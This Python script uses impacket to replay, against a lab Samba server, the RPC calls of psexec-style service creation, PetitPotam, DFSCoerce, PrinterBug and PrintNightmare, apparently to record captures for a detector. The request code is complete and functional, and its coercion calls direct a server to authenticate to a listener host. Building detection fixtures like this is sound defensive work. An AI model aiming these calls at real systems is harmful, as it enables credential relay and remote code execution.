#!/usr/bin/env python3
"""DCE/RPC calls of lateral-movement and coercion tools, made with impacket against the lab's own smbd.

Run by pcaps/lab/record.sh with the lab venv's python (impacket, the "lab" extra), inside
the client namespace, against 192.0.2.20 only:

    rpc_calls.py psexec  SERVER USER PASSWORD DOMAIN FILE   # ADMIN$ upload + svcctl service creation
    rpc_calls.py coerce  SERVER USER PASSWORD DOMAIN LISTENER
    rpc_calls.py driver  SERVER USER PASSWORD DOMAIN LISTENER

What it reproduces is only what a detector keys on: the pipes, interface UUIDs, opnums and
the parameters that name paths and flags. Nothing here exploits anything: every path names a
file that does not exist (C:\\smbwatch-fixture\\..., \\\\LISTENER\\smbwatch-fixture\\...), the
"service binary" is a line of text, and Samba refuses the calls (that refusal is what the
captures show). After a rejected bind the pipe is closed and the call is not sent (smbd
4.17 leaves a request on a rejected context unanswered: the read hangs until the client's
timeout). A refused call does not stop the script: the next call still goes out, with a zero
handle where the refused call should have returned one. Each step prints one line with its
outcome.
"""

from __future__ import annotations

import sys

from impacket.dcerpc.v5 import rprn, scmr, transport
from impacket.dcerpc.v5.dtypes import DWORD, LONG, NULL, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.rpcrt import DCERPCException
from impacket.smbconnection import SMBConnection
from impacket.uuid import uuidtup_to_bin

# [MS-EFSR] 1.9: the EFSRPC interface over \pipe\lsarpc and over \pipe\efsrpc
EFSR_LSARPC = ("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0")
EFSR_EFSRPC = ("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0")
# [MS-DFSNM] 1.9, [MS-SCMR] 1.9, [MS-RPRN] 1.9
NETDFS = ("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0")
SVCCTL = ("367abb81-9844-35f1-ad32-98f038001003", "2.0")
SPOOLSS = ("12345678-1234-abcd-ef00-0123456789ab", "1.0")


class EfsRpcOpenFileRaw(NDRCALL):
    """[MS-EFSR] 3.1.4.2.1, opnum 0: FileName, Flags (the hContext out-parameter is the answer's)."""

    opnum = 0
    structure = (("FileName", WSTR), ("Flags", LONG))


class NetrDfsRemoveStdRoot(NDRCALL):
    """[MS-DFSNM] 3.1.4.4.2, opnum 13: ServerName, RootShare, ApiFlags."""

    opnum = 13
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", DWORD))


def say(step: str, outcome: object) -> None:
    print(f"{step}: {outcome}", flush=True)


def login(server: str, user: str, password: str, domain: str) -> SMBConnection:
    smb = SMBConnection(server, server, sess_port=445)
    smb.login(user, password, domain)
    return smb


def pipe(smb: SMBConnection, server: str, name: str, uuid: tuple[str, str]):
    """Open \\pipe\\NAME on the existing SMB session and bind UUID; returns the DCE object or None."""
    rpc = transport.SMBTransport(server, filename=name, smb_connection=smb)
    dce = rpc.get_dce_rpc()
    try:
        dce.connect()
    except Exception as e:  # the pipe does not exist on this server
        say(f"open \\{name}", e)
        return None
    say(f"open \\{name}", "ok")
    try:
        dce.bind(uuidtup_to_bin(uuid))
        say(f"bind {uuid[0]} v{uuid[1]} on \\{name}", "accepted")
    except DCERPCException as e:
        say(f"bind {uuid[0]} v{uuid[1]} on \\{name}", e)
        dce.disconnect()  # a request on the rejected context gets no answer from smbd 4.17
        return None
    return dce


def call(step: str, dce, request) -> object:
    try:
        answer = dce.request(request)
    except Exception as e:  # a DCE/RPC fault or an error status in the answer
        say(step, e)
        return None
    say(step, "answered")
    return answer


def psexec(smb: SMBConnection, server: str, exe_path: str) -> None:
    """What psexec does after finding a writable share: upload, then create and start a service."""
    remote = "smbwatch-fixture.exe"
    with open(exe_path, "rb") as f:
        smb.putFile("ADMIN$", remote, f.read)
    say(f"put ADMIN$\\{remote}", "ok")
    dce = pipe(smb, server, "svcctl", SVCCTL)
    if dce is not None:
        # only the rights CreateServiceW needs: smbd refuses psexec's broader request outright
        open_req = scmr.ROpenSCManagerW()
        open_req["lpMachineName"] = f"{server}\x00"
        open_req["lpDatabaseName"] = "ServicesActive\x00"
        open_req["dwDesiredAccess"] = scmr.SC_MANAGER_CONNECT | scmr.SC_MANAGER_CREATE_SERVICE
        answer = call("OpenSCManagerW", dce, open_req)
        scm = answer["lpScHandle"] if answer is not None else b"\x00" * 20
        create = scmr.RCreateServiceW()
        create["hSCManager"] = scm
        create["lpServiceName"] = "SmbwatchFixture\x00"
        create["lpDisplayName"] = "SmbwatchFixture\x00"
        create["dwDesiredAccess"] = scmr.SERVICE_ALL_ACCESS
        create["dwServiceType"] = scmr.SERVICE_WIN32_OWN_PROCESS
        create["dwStartType"] = scmr.SERVICE_DEMAND_START
        create["dwErrorControl"] = scmr.SERVICE_ERROR_IGNORE
        create["lpBinaryPathName"] = f"%SystemRoot%\\{remote}\x00"
        create["lpLoadOrderGroup"] = NULL
        create["lpDependencies"] = NULL
        create["dwDependSize"] = 0
        create["lpServiceStartName"] = NULL
        create["lpPassword"] = NULL
        create["dwPwSize"] = 0
        answer = call("CreateServiceW", dce, create)
        service = answer["lpServiceHandle"] if answer is not None else b"\x00" * 20
        start = scmr.RStartServiceW()
        start["hService"] = service
        start["argc"] = 0
        start["argv"] = NULL
        call("StartServiceW", dce, start)
        delete = scmr.RDeleteService()
        delete["hService"] = service
        call("DeleteService", dce, delete)
        close = scmr.RCloseServiceHandle()
        close["hSCObject"] = scm
        call("CloseServiceHandle", dce, close)
        dce.disconnect()
    smb.deleteFile("ADMIN$", remote)
    say(f"delete ADMIN$\\{remote}", "ok")


def open_server(dce, server: str):
    """RpcOpenPrinter on the print server itself; returns the handle or None."""
    req = rprn.RpcOpenPrinter()
    req["pPrinterName"] = f"\\\\{server}\x00"
    req["pDatatype"] = NULL
    req["pDevModeContainer"]["pDevMode"] = NULL
    req["AccessRequired"] = rprn.SERVER_READ
    answer = call("RpcOpenPrinter", dce, req)
    return answer["pHandle"] if answer is not None else None


def coerce(smb: SMBConnection, server: str, listener: str) -> None:
    unc = f"\\\\{listener}\\smbwatch-fixture\\file.txt\x00"
    # PetitPotam: EfsRpcOpenFileRaw over \lsarpc, then over \efsrpc
    for name, uuid in (("lsarpc", EFSR_LSARPC), ("efsrpc", EFSR_EFSRPC)):
        dce = pipe(smb, server, name, uuid)
        if dce is None:
            continue
        req = EfsRpcOpenFileRaw()
        req["FileName"] = unc
        req["Flags"] = 0
        call(f"EfsRpcOpenFileRaw on \\{name}", dce, req)
        dce.disconnect()
    # DFSCoerce: NetrDfsRemoveStdRoot naming the listener as the DFS server
    dce = pipe(smb, server, "netdfs", NETDFS)
    if dce is not None:
        req = NetrDfsRemoveStdRoot()
        req["ServerName"] = f"{listener}\x00"
        req["RootShare"] = "smbwatch-fixture\x00"
        req["ApiFlags"] = 1
        call("NetrDfsRemoveStdRoot", dce, req)
        dce.disconnect()
    # PrinterBug: RpcRemoteFindFirstPrinterChangeNotificationEx naming the listener
    dce = pipe(smb, server, "spoolss", SPOOLSS)
    if dce is not None:
        handle = open_server(dce, server)
        req = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
        req["hPrinter"] = handle if handle is not None else b"\x00" * 20
        req["fdwFlags"] = rprn.PRINTER_CHANGE_ADD_JOB
        req["fdwOptions"] = 0
        req["pszLocalMachine"] = f"\\\\{listener}\x00"
        req["dwPrinterLocal"] = 0
        req["pOptions"] = NULL
        call("RpcRemoteFindFirstPrinterChangeNotificationEx", dce, req)
        if handle is not None:
            close = rprn.RpcClosePrinter()
            close["phPrinter"] = handle
            call("RpcClosePrinter", dce, close)
        dce.disconnect()


def driver(smb: SMBConnection, server: str, listener: str) -> None:
    """The RpcAddPrinterDriverEx call of PrintNightmare (CVE-2021-1675/34527), fields only."""
    dce = pipe(smb, server, "spoolss", SPOOLSS)
    if dce is None:
        return
    info = rprn.DRIVER_INFO_2()
    info["cVersion"] = 3
    info["pName"] = "smbwatch-fixture\x00"
    info["pEnvironment"] = "Windows x64\x00"
    info["pDriverPath"] = "C:\\smbwatch-fixture\\driver.dll\x00"
    info["pDataFile"] = f"\\\\{listener}\\smbwatch-fixture\\data.dll\x00"
    info["pConfigFile"] = "C:\\smbwatch-fixture\\config.dll\x00"
    container = rprn.DRIVER_CONTAINER()
    container["Level"] = 2
    container["DriverInfo"]["tag"] = 2
    container["DriverInfo"]["Level2"] = info
    req = rprn.RpcAddPrinterDriverEx()
    req["pName"] = f"\\\\{server}\x00"
    req["pDriverContainer"] = container
    req["dwFileCopyFlags"] = rprn.APD_COPY_ALL_FILES | rprn.APD_COPY_FROM_DIRECTORY | rprn.APD_INSTALL_WARNED_DRIVER
    call("RpcAddPrinterDriverEx", dce, req)
    dce.disconnect()


def main() -> None:
    if len(sys.argv) != 7 or sys.argv[1] not in ("psexec", "coerce", "driver"):
        sys.exit(__doc__)
    what, server, user, password, domain, extra = sys.argv[1:]
    smb = login(server, user, password, domain)
    {"psexec": psexec, "coerce": coerce, "driver": driver}[what](smb, server, extra)
    smb.logoff()


if __name__ == "__main__":
    main()
